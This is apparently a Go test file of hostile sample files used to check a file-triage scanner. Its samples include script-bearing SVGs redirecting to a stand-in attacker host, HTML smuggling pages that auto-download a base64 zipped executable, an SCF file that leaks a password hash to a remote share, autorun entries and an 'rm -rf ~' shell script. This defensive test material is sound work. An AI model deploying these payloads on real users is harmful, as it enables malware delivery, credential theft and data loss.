package triagetest

import "estran/session"

// activePages are pictures and pages with scripts that no site needs.
func activePages() []Entry {
	const active = session.ReasonActivePage
	return []Entry{
		hostile("carte.svg", "a script in a picture", text(`<svg xmlns="http://www.w3.org/2000/svg"><script>location='http://malin.example'</script></svg>`), active),
		hostile("dessin.svg", "a handler in a picture", text(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="location='http://malin.example'"><circle r="4"/></svg>`), active),
		hostile("logo2.svg", "a handler that is written with entities and another prefix", text(`<?xml version="1.0"?><s:svg xmlns:s="http://www.w3.org/2000/svg"><s:a xlink:href="&#106;avascript&#58;alert(1)" xmlns:xlink="http://www.w3.org/1999/xlink"><s:rect width="99" height="99"/></s:a></s:svg>`), active),
		hostile("fond.svg", "a page in a picture", text(`<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject></svg>`), active),
		hostile("plan utf16.svg", "a handler in a picture that is UTF-16", func() []byte {
			return join([]byte("\xff\xfe"), wide(`<?xml version="1.0" encoding="UTF-16"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`))
		}, active),
		hostile("icone.svgz", "a script in a packed picture", func() []byte {
			return gzipped("icone.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`))
		}, inside, active),
		hostile("facture.html", "carries an archive in a script and has it saved: HTML smuggling (T1027.006)", func() []byte {
			return []byte(`<html><body><script>var d=atob("` + base64Of(zipped(file("a.exe", pe()))) + `");var a=new Uint8Array(d.length);for(var i=0;i<d.length;i++)a[i]=d.charCodeAt(i);` +
				`var b=new Blob([a],{type:'octet/stream'});var l=document.createElement('a');l.href=URL.createObjectURL(b);l.download='facture.zip';l.click();</script></body></html>`)
		}, active),
		hostile("colis.htm", "the same for old browsers", func() []byte {
			return []byte(`<HTML><BODY ONLOAD="go()"><SCRIPT>function go(){var s=window.atob("` + base64Of(noise(71, 6000)) + `");` +
				`window.navigator.msSaveOrOpenBlob(new window["Blob"]([s]),"colis.iso")}</SCRIPT></BODY></HTML>`)
		}, active),
		hostile("document.html", "has a data: link saved by itself", func() []byte {
			return []byte(`<html><body><a id="x" download="a.zip" href="data:application/zip;base64,` + base64Of(zipped(file("a.exe", pe()))) + `">x</a><script>document.getElementById("x").click()</script></body></html>`)
		}, active),
		hostile("page.pdf.html", "pretends to be a document", text("<html><body><script>document.write(unescape('%3Cform%20action%3Dhttp%3A//malin.example%3E'))</script></body></html>"), active),
	}
}

// programs are what a system runs.
func programs() []Entry {
	hello := func(s string) func() []byte { return text(s) }
	return []Entry{
		hostile("jeu.exe", "a Windows program", pe, program),
		hostile("jeu", "the same without extension", pe, program),
		hostile("économiseur.scr", "a screen saver is a program", pe, program),
		hostile("bibliotheque.dll", "a library", pe, program),
		hostile("virus.com", "a program of DOS", text("\xb8\x00\x4c\xcd\x21"), program),
		hostile("jeu linux", "a Linux program", elf, program),
		hostile("libx.so", "a Linux library", elf, program),
		hostile("Jeu.AppImage", "a Linux program in one file", func() []byte { b := elf(); copy(b[8:], "AI\x02"); return b }, program),
		hostile("jeu mac", "a Mac program", machO, program),
		hostile("go.bat", "a batch file", hello("@echo off\r\nstart calc\r\n"), program),
		hostile("go.cmd", "a batch file", hello("@echo off\r\nstart calc\r\n"), program),
		hostile("go.ps1", "PowerShell", hello("Start-Process calc\r\n"), program),
		hostile("go.vbs", "Visual Basic", hello("CreateObject(\"WScript.Shell\").Run \"calc\"\r\n"), program),
		hostile("go.js", "JScript", hello("new ActiveXObject('WScript.Shell').Run('calc');\r\n"), program),
		hostile("go.wsf", "a script of Windows Script Host", hello("<job><script language=\"JScript\">WScript.Echo(1)</script></job>"), program),
		hostile("go.hta", "a page that is a program", hello("<html><hta:application/><script>new ActiveXObject('WScript.Shell').Run('calc')</script></html>"), program, session.ReasonActivePage),
		hostile("go.reg", "changes the registry", hello("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software]\r\n"), program),
		hostile("go.sh", "a shell script", hello("#!/bin/sh\nrm -rf ~\n"), program),
		hostile("go", "a shell script without extension", hello("#!/bin/sh\nrm -rf ~\n"), program),
		hostile("go.py", "Python", hello("import os\nos.system('calc')\n"), program),
		hostile("jeu.jar", "a program in Java", func() []byte {
			return zipped(p("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\nMain-Class: A\r\n"), file("A.class", join([]byte("\xca\xfe\xba\xbe\x00\x00\x00\x34"), noise(72, 200))))
		}, program),
		hostile("aide.chm", "a help file runs programs", func() []byte { return join([]byte("ITSF\x03\x00\x00\x00\x60\x00\x00\x00"), noise(73, 400)) }, program),
		hostile("module.xll", "a program that Excel loads", pe, program),
		hostile("panneau.settingcontent-ms", "a link of the Windows settings runs a program", hello(`<?xml version="1.0"?><PCSettings><DeepLink>calc.exe</DeepLink></PCSettings>`), program),
	}
}

// installers install a program.
func installers() []Entry {
	return []Entry{
		hostile("setup.msi", "Windows Installer", msi, installs),
		hostile("pilote", "the same without extension: its class tells", msi, installs),
		hostile("jeu.deb", "Debian", func() []byte {
			return ar(p("debian-binary", "2.0\n"), file("control.tar.gz", gzipped("", tarred(p("./control", "Package: jeu\n")))), file("data.tar.gz", gzipped("", tarred(file("./usr/bin/jeu", elf())))))
		}, installs),
		hostile("jeu.apk", "Android", func() []byte {
			return zipped(file("AndroidManifest.xml", join([]byte("\x03\x00\x08\x00"), noise(74, 400))), file("classes.dex", join([]byte("dex\n035\x00"), noise(75, 400))), file("resources.arsc", join([]byte("\x02\x00\x0c\x00"), noise(76, 100))))
		}, installs),
		hostile("jeu.rpm", "Fedora", func() []byte {
			return join([]byte("\xed\xab\xee\xdb\x03\x00\x00\x00\x00\x01jeu-1.0-1"), make([]byte, 80), noise(77, 400))
		}, installs),
		hostile("jeu.pkg", "macOS", func() []byte { return join([]byte("xar!\x00\x1c\x00\x01"), noise(78, 400)) }, installs),
		hostile("jeu.msix", "Windows 11", func() []byte {
			return zipped(p("AppxManifest.xml", `<?xml version="1.0"?><Package xmlns="http://schemas.microsoft.com/appx/manifest/foundation/windows10"/>`), p("[Content_Types].xml", "<Types/>"), file("jeu.exe", pe()))
		}, installs, inside, program),
		hostile("jeu.flatpakref", "Flatpak", text("[Flatpak Ref]\nName=org.exemple.Jeu\nUrl=https://malin.example/\n"), installs),
	}
}

func msi() []byte {
	return cfbFile([]byte("\x84\x10\x0c\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"),
		file("\u4840\u3f3f\u4577\u446c\u3b6a\u45e4\u4824", noise(79, 200)), file("\u4840\u3f7f\u4164\u422f\u4836", noise(80, 400)), file("\x05SummaryInformation", summary()))
}

// shortcuts lead elsewhere.
func shortcuts() []Entry {
	return []Entry{
		hostile("Mes documents.lnk", "a shortcut to cmd.exe", func() []byte { return lnk("/c start x.vbs") }, shortcut),
		hostile("Mes photos", "the same without extension", func() []byte { return lnk("/c start x.vbs") }, shortcut),
		hostile("site.url", "a shortcut to another computer", text("[InternetShortcut]\r\nURL=file://10.0.0.1/a/x.exe\r\n"), shortcut),
		hostile("a.desktop", "a shortcut of Linux", text("[Desktop Entry]\nType=Application\nExec=sh -c 'x'\nIcon=folder\n"), shortcut),
		hostile("dossier", "the same without extension", text("[Desktop Entry]\nType=Application\nExec=sh -c 'x'\n"), shortcut),
		hostile("partage.scf", "has a password's hash told as soon as its folder is shown", text("[Shell]\r\nCommand=2\r\nIconFile=\\\\10.0.0.1\\a\\x.ico\r\n"), shortcut),
		hostile("recherche.search-ms", "a search on another computer", text(`<?xml version="1.0"?><persistedQuery version="1.0"/>`), shortcut),
		hostile("Site.webloc", "a shortcut of macOS", text(`<?xml version="1.0"?><plist version="1.0"><dict><key>URL</key><string>file:///Applications</string></dict></plist>`), shortcut),
		hostile("autorun.inf", "has Windows start a program", text("[autorun]\r\nopen=a.exe\r\naction=Ouvrir le dossier\r\n"), session.ReasonAutorun, program),
		hostile("AutoRun.INF", "the same in capitals, in disguise", func() []byte {
			return join(noise(81, 300), []byte("\r\n[autorun]\r\nopen=RECYCLER\\x.exe\r\n"))
		}, session.ReasonAutorun, program),
	}
}

// diskImages open like a key.
func diskImages() []Entry {
	const image = session.ReasonDiskImage
	return []Entry{
		hostile("facture.iso", "a CD with a program", func() []byte { return iso("FACTURE.EXE;1", pe()) }, image),
		hostile("film", "a CD without extension", func() []byte { return iso("FILM.TXT;1", []byte("bonjour")) }, image),
		hostile("disquette.img", "a floppy", fat12, image),
		hostile("cle.img", "a disk with a partition", partitioned, image),
		hostile("disque.vhd", "a disk of Windows", func() []byte {
			return join(partitioned(), []byte("conectix\x00\x00\x00\x02\x00\x01\x00\x00\xff\xff\xff\xff\xff\xff\xff\xff"), make([]byte, 488))
		}, image),
		hostile("disque.vhdx", "a disk of Windows", func() []byte { return join([]byte("vhdxfile"), wide("Microsoft Windows 10"), make([]byte, 65536)) }, image),
		hostile("jeu.dmg", "a disk of macOS", func() []byte {
			return join(zlibbed(noise(82, 2000)), []byte("koly\x00\x00\x00\x04\x00\x00\x02\x00\x00\x00\x00\x01"), make([]byte, 496))
		}, image),
		hostile("machine.vmdk", "a disk of a virtual machine", func() []byte { return join([]byte("KDMV\x01\x00\x00\x00\x03\x00\x00\x00"), make([]byte, 1012)) }, image),
		hostile("machine.qcow2", "a disk of a virtual machine", func() []byte { return join([]byte("QFI\xfb\x00\x00\x00\x03"), make([]byte, 1016)) }, image),
		hostile("photos de vacances.zip", "a CD in an archive", func() []byte { return zipped(file("photos.iso", iso("A.EXE;1", pe()))) }, inside, image),
	}
}
